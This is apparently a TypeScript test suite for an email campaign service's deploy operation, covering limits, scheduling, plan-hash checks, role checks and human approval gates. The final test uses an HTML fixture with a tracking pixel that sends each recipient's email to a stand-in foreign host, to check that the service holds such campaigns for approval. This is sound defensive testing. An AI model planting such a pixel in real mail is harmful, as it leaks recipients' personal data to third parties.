import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { OwnTestbed } from '../../../tests/operations/support/testbed.ts'
import {
  campaignScene,
  deployPlanned,
  openCampaignTestbed,
  yes,
} from '../../../tests/support/businesses/campaigns.ts'
import { eventsOf } from '../../../tests/support/businesses/contacts.ts'
import { setBusiness } from '../accounts/settings/settings.ts'
import { parseId } from '../core/ids.ts'
import { sql } from '../lib/db/db.ts'

let testbed: OwnTestbed
before(async () => {
  testbed = await openCampaignTestbed()
})
after(() => testbed.close())

interface Deployed {
  campaign_id: string
  status: string
  recipients: number
  approval_url?: string
}
type Scene = Awaited<ReturnType<typeof campaignScene>>

const deploy = ({ owner }: Scene, input: { campaign_id: string; [more: string]: unknown }) =>
  deployPlanned<Deployed>(owner, input)
const plan = ({ owner }: Scene, campaign_id: string) =>
  owner.get<{ plan_hash: string; recipients: number }>('campaign.preview', { campaign_id })
const setLimit = ({ businessId }: Scene, value: string) =>
  setBusiness(testbed.db, businessId, { key: 'deploy_limit', value, now: new Date() })

async function ready(subscribers = 3) {
  const scene = await campaignScene(testbed)
  await scene.subscribers(subscribers)
  const { campaign_id } = await scene.draft()
  return { scene, campaign_id }
}

/** The kinds of the campaign's waiting jobs. */
const jobsOf = async (campaign_id: string) => {
  const id = parseId('campaign', campaign_id)
  const rows = await testbed.db.all<{ kind: string; due: Date }>(sql`
    select kind, due_at as due from jobs where payload ->> 'campaign_id' = ${id}
  `)
  return rows.map(({ kind }) => kind)
}

test('a deployed draft emits its event and queues the freeze job', async () => {
  const { scene, campaign_id } = await ready()
  const { plan_hash } = await plan(scene, campaign_id)
  const answer = await deploy(scene, { campaign_id, plan_hash, throttle_per_minute: 60 })
  assert.deepEqual(answer, {
    campaign_id,
    status: 'deployed',
    recipients: 3,
    schedule: null,
    // The testbed has no mail server.
    leaves_this_machine: false,
  })
  assert.deepEqual(await jobsOf(campaign_id), ['campaign.freeze'])
  const events = await eventsOf(testbed.db, scene.businessId)
  const told = events.filter(({ type }) => type.startsWith('campaign.'))
  assert.deepEqual(
    told.map(({ type, data }) => [type, data]),
    [
      [
        'campaign.deployed',
        { campaign_id, name: 'News', channel: 'email', recipients: 3, status: 'deployed' },
      ],
    ],
  )
})

test('a campaign for more people than its connection may reach in a day is refused, and stays a draft', async () => {
  const { scene, campaign_id } = await ready()
  const { plan_hash } = await plan(scene, campaign_id)
  const limitTo = (limit: number) =>
    testbed.db.run(sql`
      with changed as (
        update connections set recipients_per_day = ${limit}
        where ${scene.businessId} = any (business_ids) returning id
      ), head as (update access_head set position = position + 1 returning position)
      insert into access_changes (position, subject, changed_at)
      select position, id, now() from head cross join changed
    `)
  await limitTo(2)
  const { body } = await scene.owner.call('campaign.deploy', { campaign_id, plan_hash })
  assert.deepEqual([body['code'], body['reason']], ['rate_limited', 'connection_limit'])
  const shown = await scene.owner.get<object>('campaign.get', { campaign_id })
  assert.partialDeepStrictEqual(shown, { status: 'draft' })
  await limitTo(3)
  assert.equal((await deploy(scene, { campaign_id, plan_hash })).status, 'deployed')
})

test('deploy, pause and resume each emit an event, and cancel emits none', async () => {
  const { scene, campaign_id } = await ready()
  const { plan_hash } = await plan(scene, campaign_id)
  await scene.bare('deploy_campaign', { campaign_id, plan_hash })
  await scene.bare('pause_campaign', { campaign_id })
  const shown = await scene.owner.get<object>('campaign.get', { campaign_id })
  assert.partialDeepStrictEqual(shown, { status: 'paused', pause_reason: 'requested' })
  await scene.bare('resume_campaign', { campaign_id })
  await scene.owner.get('campaign.cancel', { campaign_id })
  const events = await eventsOf(testbed.db, scene.businessId)
  const told = events.filter(({ type }) => type.startsWith('campaign.'))
  assert.deepEqual(
    told.map(({ type, data }) => [type, data['status'], data['sent']]),
    [
      ['campaign.deployed', 'deployed', undefined],
      ['campaign.paused', 'paused', 0],
      ['campaign.resumed', 'deployed', 0],
    ],
  )
})

test('a campaign with a send time is scheduled, and can be cancelled until then', async () => {
  const { scene, campaign_id } = await ready()
  const send_at = new Date(Date.now() + 3_600_000).toISOString()
  const answer = await deploy(scene, { campaign_id, send_at })
  assert.equal(answer.status, 'scheduled')
  assert.deepEqual(await jobsOf(campaign_id), ['campaign.start'])
  assert.partialDeepStrictEqual(await scene.refused('campaign.pause', { campaign_id }), {
    status: 'scheduled',
    possible: ['preview', 'test', 'deploy', 'unschedule', 'copy', 'cancel'].map(
      (action) => `svc.v1.campaign.${action}`,
    ),
  })
  await scene.owner.get('campaign.cancel', { campaign_id })
})

test('a send_at that is past or does not exist is refused, and the campaign stays a draft', async () => {
  const { scene, campaign_id } = await ready()
  await setBusiness(testbed.db, scene.businessId, {
    key: 'time_zone',
    value: 'Europe/Berlin',
    now: new Date(),
  })
  const { plan_hash } = await plan(scene, campaign_id)
  for (const [send_at, zone, message] of [
    ['2020-01-01T09:00', undefined, /2020-01-01T09:00:00\+01:00 \(Europe\/Berlin\).* in the past/],
    [
      '2025-12-25T09:00',
      'recipient',
      /2025-12-25T09:00:00\+01:00 \(Europe\/Berlin\).* in the past/,
    ],
    ['2025-07-01T09:00:00Z', undefined, /2025-07-01T11:00:00\+02:00/],
    ['2026-11-31T09:00', undefined, /There is no 2026-11-31T09:00: 2026-11 has 30 days/],
    ['2026-11-31T09:00:00Z', undefined, /There is no 2026-11-31T09:00:00Z/],
  ] as const) {
    const input = { campaign_id, plan_hash, send_at, ...(zone && { zone }) }
    const refusal = await scene.refused('campaign.deploy', input)
    assert.deepEqual([refusal.code, refusal.field], ['invalid_request', 'send_at'], send_at)
    assert.match(refusal.message, message)
  }
  const { status } = await scene.owner.get<{ status: string }>('campaign.get', { campaign_id })
  assert.equal(status, 'draft')
})

test('an order and the views of its campaign repeat the time as it was understood, with its zone', async () => {
  const { scene, campaign_id } = await ready()
  const key = { key: 'time_zone', value: 'Asia/Dubai', now: new Date() }
  await setBusiness(testbed.db, scene.businessId, key)
  const day = new Date(Date.now() + 10 * 86_400_000).toISOString().slice(0, 10)
  const order = { campaign_id, send_at: `${day}T09:00`, idempotency_key: 'the-order' }
  const answer = await deploy(scene, order)
  const schedule = { at: `${day}T09:00:00+04:00`, zone: 'Asia/Dubai' }
  assert.partialDeepStrictEqual(answer, { status: 'scheduled', schedule })
  const shown = await scene.owner.get<object>('campaign.get', { campaign_id })
  assert.partialDeepStrictEqual(shown, { schedule, send_at: `${day}T05:00:00.000Z` })
  const { campaigns } = await scene.owner.get<{ campaigns: object[] }>('campaign.list', {})
  assert.partialDeepStrictEqual(campaigns[0], { schedule })
  assert.deepEqual(await deploy(scene, order), answer, 'a repeated call gets its answer again')
  const onTheirs = { campaign_id, send_at: `${day}T10:00`, zone: 'recipient' }
  assert.partialDeepStrictEqual(await deploy(scene, onTheirs), {
    schedule: { at: `${day}T10:00`, zone: 'recipient' },
  })
})

test('a deploy tolerates up to one per cent more or fewer recipients than planned', async () => {
  const { scene, campaign_id } = await ready(100)
  await setLimit(scene, 'none')
  const { plan_hash } = await plan(scene, campaign_id)
  await scene.contact({ email: 'one@example.com', consent: { email: yes } })
  await scene.contact({ email: 'two@example.com', consent: { email: yes } })
  const refusal = await scene.refused('campaign.deploy', { campaign_id, plan_hash })
  assert.equal(refusal.code, 'conflict')
  assert.deepEqual(refusal['drift'], [{ what: 'recipients', before: 100, now: 102 }])
  assert.match(refusal.fix?.tool ?? '', /campaign\.preview$/)
  const no = { email: { status: 'unsubscribed', source: 'told us' } }
  await scene.contact({ email: 'two@example.com', consent: no })
  assert.equal((await deploy(scene, { campaign_id, plan_hash })).recipients, 101)
})

test('a plan hash of another campaign, or an invented one, is refused', async () => {
  const { scene, campaign_id } = await ready()
  const other = await scene.draft()
  const { plan_hash } = await plan(scene, other.campaign_id)
  for (const wrong of [plan_hash, 'looks fine to me', `9${plan_hash}`]) {
    const refusal = await scene.refused('campaign.deploy', { campaign_id, plan_hash: wrong })
    assert.deepEqual([refusal.code, refusal.field], ['invalid_request', 'plan_hash'])
  }
})

test('a connection can deploy up to the limit; one recipient more waits for a person’s approval', async () => {
  const { scene, campaign_id } = await ready(4)
  await setLimit(scene, '3')
  const answer = await deploy(scene, { campaign_id })
  assert.equal(answer.status, 'awaiting_approval')
  const approval = `${testbed.service.config.appUrl}/campaigns/${campaign_id}`
  assert.equal(answer.approval_url, approval)
  assert.deepEqual(await jobsOf(campaign_id), ['campaign.approval-mail'])
  const events = await eventsOf(testbed.db, scene.businessId)
  assert.ok(!events.some(({ type }) => type === 'campaign.deployed'))
  await setLimit(scene, '4')
  const again = await scene.draft()
  assert.equal((await deploy(scene, { campaign_id: again.campaign_id })).status, 'deployed')
})

test('what a program orders without the hash of a plan waits for a person, whatever the limit', async () => {
  for (const limit of ['0', '1000', 'none']) {
    const { scene, campaign_id } = await ready()
    await setLimit(scene, limit)
    const send_at = new Date(Date.now() + 3_600_000).toISOString()
    const order = { campaign_id, send_at }
    const answer = await scene.owner.get<Deployed>('campaign.deploy', order)
    assert.partialDeepStrictEqual(answer, {
      status: 'awaiting_approval',
      approval_reason: 'no_plan_hash',
    })
    assert.match(answer.approval_url ?? '', /\/campaigns\/cmp_/)
    if (limit === '0') continue
    await scene.owner.get('campaign.unschedule', { campaign_id })
    assert.equal((await deploy(scene, order)).status, 'scheduled', limit)
    const moved = { campaign_id, send_at: new Date(Date.now() + 7_200_000).toISOString() }
    const { status } = await scene.owner.get<Deployed>('campaign.deploy', moved)
    assert.equal(status, 'awaiting_approval', 'moved without it')
  }
  const { scene, campaign_id } = await ready()
  const person = await testbed.appCaller({ businesses: [scene.businessId], role: 'admin' })
  const { status } = await person.get<Deployed>('campaign.deploy', { campaign_id })
  assert.equal(status, 'deployed', 'a person sees the plan in the app')
})

test('a transition that the state does not allow is refused with the possible ones', async () => {
  const { scene, campaign_id } = await ready()
  const no = async (operation: string, status: string) => {
    const refusal = await scene.refused(operation, { campaign_id })
    assert.equal(refusal.code, 'conflict', operation)
    assert.equal(refusal['status'], status, operation)
  }
  for (const operation of ['pause', 'resume']) await no(`campaign.${operation}`, 'draft')
  await deploy(scene, { campaign_id })
  for (const operation of ['deploy', 'preview', 'resume']) {
    await no(`campaign.${operation}`, 'deployed')
  }
  await scene.owner.get('campaign.cancel', { campaign_id })
  for (const operation of ['deploy', 'preview', 'pause', 'resume', 'cancel']) {
    await no(`campaign.${operation}`, 'cancelled')
  }
})

test('of many concurrent deploys exactly one succeeds', async () => {
  const { scene, campaign_id } = await ready()
  const { plan_hash } = await plan(scene, campaign_id)
  const order = { campaign_id, plan_hash }
  const calls = await Promise.all(
    Array.from({ length: 6 }, () => scene.owner.call('campaign.deploy', order)),
  )
  assert.equal(calls.filter(({ kind }) => kind === 'answer').length, 1)
  assert.deepEqual(await jobsOf(campaign_id), ['campaign.freeze'])
})

test('an editor can draft and pause; deploy, resume and cancel require an admin', async () => {
  const { scene, campaign_id } = await ready()
  const { businessId } = scene
  const editor = await testbed.caller({ businesses: [businessId], role: 'editor' })
  for (const operation of ['deploy', 'resume', 'cancel']) {
    const { body } = await editor.call(`campaign.${operation}`, { campaign_id })
    assert.equal(body['code'], 'role_required', operation)
  }
  await deploy(scene, { campaign_id })
  await editor.get('campaign.pause', { campaign_id })
})

test('a link that tells a foreign host about each recipient waits for a person, who sees the host', async () => {
  const { scene, campaign_id } = await ready()
  const html = '<p>News</p><img src="https://pix.grab.example/a.gif?m={{ contact.email }}" alt="">'
  await scene.owner.get('campaign.save', { campaign_id, content: { html } })
  const { plan_hash, ...shown } = await plan(scene, campaign_id)
  const { gates } = shown as unknown as { gates: { gate: string; evidence: string }[] }
  const links = gates.find(({ gate }) => gate === 'links')
  assert.match(links?.evidence ?? '', /pix\.grab\.example/)
  const answer = await deploy(scene, { campaign_id, plan_hash })
  const { status, approval_reason } = answer as Deployed & { approval_reason?: string }
  assert.deepEqual([status, approval_reason], ['awaiting_approval', 'personal_links'])
  assert.deepEqual(await jobsOf(campaign_id), ['campaign.approval-mail'])
})
